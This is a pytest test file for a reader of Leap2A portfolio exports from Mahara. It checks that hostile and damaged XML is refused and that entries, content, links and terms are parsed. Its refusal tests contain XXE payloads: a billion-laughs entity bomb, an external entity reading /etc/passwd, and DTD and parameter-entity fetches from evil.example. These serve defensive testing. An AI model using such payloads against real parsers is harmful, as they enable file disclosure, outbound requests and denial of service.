"""Leap2A documents that were made to harm, damaged ones, and honest ones of every age."""

import pytest

from portfolio_gen.base.errors import ContentError
from portfolio_gen.exchange.leap2a import reading
from portfolio_gen.exchange.leap2a.reading import Link, read_feed
from portfolio_gen.exchange.leap2a.spaces import LEAPS, term

AGAIN = "Export it again from Mahara, as Leap2A."
ATTACK = (
    "leap2a.xml: this document declares a document type or entities, which are refused because "
    f"they can be used to attack whoever opens it. {AGAIN}"
)
FEED = (
    '<feed xmlns="http://www.w3.org/2005/Atom" '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:leap2="{leap}" '
    'xmlns:mahara="http://wiki.mahara.org/Developer_Area/Import%2F%2FExport/LEAP_Extensions#">'
    "{body}</feed>"
)
LAUGHS = (
    '<!DOCTYPE feed [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    "<feed>&c;</feed>"
)


def feed(body: str, leap: str = "http://terms.leapspecs.org/") -> bytes:
    """Return a document."""
    return FEED.format(leap=leap, body=body).encode()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (LAUGHS.encode(), ATTACK),
        (b'<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>', ATTACK),
        (b'<!DOCTYPE feed SYSTEM "http://evil.example/x.dtd"><feed/>', ATTACK),
        (
            b'<!DOCTYPE f [<!ENTITY % x SYSTEM "http://evil.example"> %x;]><feed/>',
            ATTACK,
        ),
        (
            b"<feed><entry></feed>",
            f"leap2a.xml:1:16: this document is damaged: it is not well-formed XML. {AGAIN}",
        ),
        (
            b"",
            f"leap2a.xml:1:1: this document is damaged: it is not well-formed XML. {AGAIN}",
        ),
        (
            b"<feed>\x00</feed>",
            f"leap2a.xml:1:7: this document is damaged: it is not well-formed XML. {AGAIN}",
        ),
        (b"<html/>", f"leap2a.xml: this is not a Leap2A document: it is no Atom feed. {AGAIN}"),
        (
            b'<?xml version="1.0" encoding="utf-7"?><feed/>',
            (
                "leap2a.xml: this document is written in an encoding that is not read here. Save "
                "it as "
                "UTF-8."
            ),
        ),
        (
            b"<a>" * 201 + b"</a>" * 201,
            (
                "leap2a.xml: this document has more than 1,000,000 elements, or nests more than "
                "200 "
                "levels deep. Mahara makes none like it; export it again."
            ),
        ),
    ],
    ids=["laughs", "file", "dtd", "parameter", "cut", "empty", "nul", "html", "utf-7", "deep"],
)
def test_refused(data: bytes, said: str) -> None:
    """Nothing is fetched, nothing grows, and the reason is said."""
    with pytest.raises(ContentError) as error:
        read_feed(data, file="leap2a.xml")
    assert str(error.value) == said


@pytest.mark.parametrize(("count", "good"), [(4, True), (5, False)], ids=["at-limit", "above"])
def test_elements(monkeypatch: pytest.MonkeyPatch, count: int, good: bool) -> None:  # noqa: FBT001
    """There is a limit to the elements."""
    monkeypatch.setattr(reading, "MAX_ELEMENTS", 5)
    data = feed("<entry/>" * count)
    if good:
        assert len(read_feed(data, file="x").entries) == count
    else:
        with pytest.raises(ContentError):
            read_feed(data, file="x")


@pytest.mark.parametrize(("count", "good"), [(2, True), (3, False)], ids=["at-limit", "above"])
def test_entries(monkeypatch: pytest.MonkeyPatch, count: int, good: bool) -> None:  # noqa: FBT001
    """There is a limit to the items."""
    monkeypatch.setattr(reading, "MAX_ENTRIES", 2)
    data = feed("<entry/>" * count)
    if good:
        assert len(read_feed(data, file="leap2a.xml").entries) == count
        return
    with pytest.raises(ContentError) as error:
        read_feed(data, file="leap2a.xml")
    assert str(error.value) == (
        "leap2a.xml: this document has more than 2 entries. Export a part of your portfolio at a "
        "time."
    )


ENTRY = """
<updated>2026-05-01T00:00:00Z</updated><title>Ana</title>
<author><name>Ana Reyes</name><uri>portfolio:me</uri></author>
<entry>
  <title> A
   title </title><id>portfolio:1</id><published>2026-04-01</published>
  <summary>Short *words*</summary>
  <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>One <em>two</em></p></div>
  </content>
  <rdf:type rdf:resource="leap2:entry"/>
  <mahara:artefactplugin mahara:type="blogpost" mahara:plugin="blog"/>
  <link rel="leap2:is_part_of" href="portfolio:2"/><link rel="enclosure" href="files/a.png"/>
  <link rel="self"/>
  <category term="tag" label="Tag"/><category term="Work" scheme="categories:life_area#"/>
  <leap2:date leap2:point="start">2026</leap2:date>
  <leap2:date leap2:point="end" leap2:label="May 2026"/>
  <leap2:persondata leap2:field="email" leap2:label="E-mail">a@b.example</leap2:persondata>
  <leap2:persondata leap2:field="empty"> </leap2:persondata>
  <leap2:spatial><leap2:country>UK</leap2:country><leap2:city/></leap2:spatial>
  <mahara:view mahara:type="profile"/>
</entry>
"""


@pytest.mark.parametrize("leap", sorted(LEAPS))
def test_entry(leap: str) -> None:
    """Everything that an entry can say, under every address the terms had."""
    found = read_feed(feed(ENTRY, leap), file="leap2a.xml")
    assert (found.title, found.author, found.person) == ("Ana", "Ana Reyes", "portfolio:me")
    entry = found.entries["portfolio:1"]
    assert (entry.type, entry.title, entry.plugin, entry.kind, entry.view) == (
        "entry",
        "A title",
        "blog",
        "blogpost",
        "profile",
    )
    assert entry.summary == r"Short \*words\*"
    assert entry.text(lambda _: "") == "One *two*"
    assert entry.links == (
        Link(rel="is_part_of", href="portfolio:2"),
        Link(rel="enclosure", href="files/a.png"),
    )
    assert (entry.tags, entry.filed("life_area"), entry.filed("none")) == (("Tag",), "Work", "")
    assert entry.dates == {"start": "2026", "end": "May 2026"}
    assert [(d.field, d.label, d.value) for d in entry.persondata] == [
        ("email", "E-mail", "a@b.example"),
        ("country", "country", "UK"),
    ]


@pytest.mark.parametrize(
    ("content", "text"),
    [
        ("<content>a *b*</content>", r"a \*b\*"),
        ('<content type="text">a</content>', "a"),
        ('<content type="html">&lt;b&gt;a&lt;/b&gt;</content>', "**a**"),
        ('<content type="html">&lt;script&gt;x&lt;/script&gt;a</content>', "a"),
        ("", ""),
    ],
)
def test_content(content: str, text: str) -> None:
    """Text, HTML and XHTML."""
    entry = read_feed(feed(f"<entry><id>1</id>{content}</entry>"), file="x").entries["1"]
    assert entry.text(lambda _: "") == text


def test_content_out_of_line() -> None:
    """Before 2010 a file was the content of its entry."""
    body = '<entry><id>1</id><content src="files/a.pdf" type="application/pdf"/></entry>'
    entry = read_feed(feed(body), file="x").entries["1"]
    assert entry.links == (Link(rel="enclosure", href="files/a.pdf", type="application/pdf"),)


def test_bare_entries() -> None:
    """Entries without a name are all kept; of two with one name, the first."""
    found = read_feed(
        feed("<entry/><entry/><entry><id>1</id></entry><entry><id>1</id></entry>"), file="x"
    )
    assert list(found.entries) == ["entry 1", "entry 2", "1"]


@pytest.mark.parametrize(
    ("name", "bare"),
    [
        ("leap2:has_part", "has_part"),
        ("[leap2:has_part]", "has_part"),
        ("http://terms.leapspecs.org/has_part", "has_part"),
        ("categories:life_area#", "life_area"),
        ("http://wiki.leapspecs.org/2A/categories/life_area#", "life_area"),
        ("enclosure", "enclosure"),
        ("", ""),
    ],
)
def test_term(name: str, bare: str) -> None:
    """A name in all the ways in which it may be written."""
    assert term(name) == bare
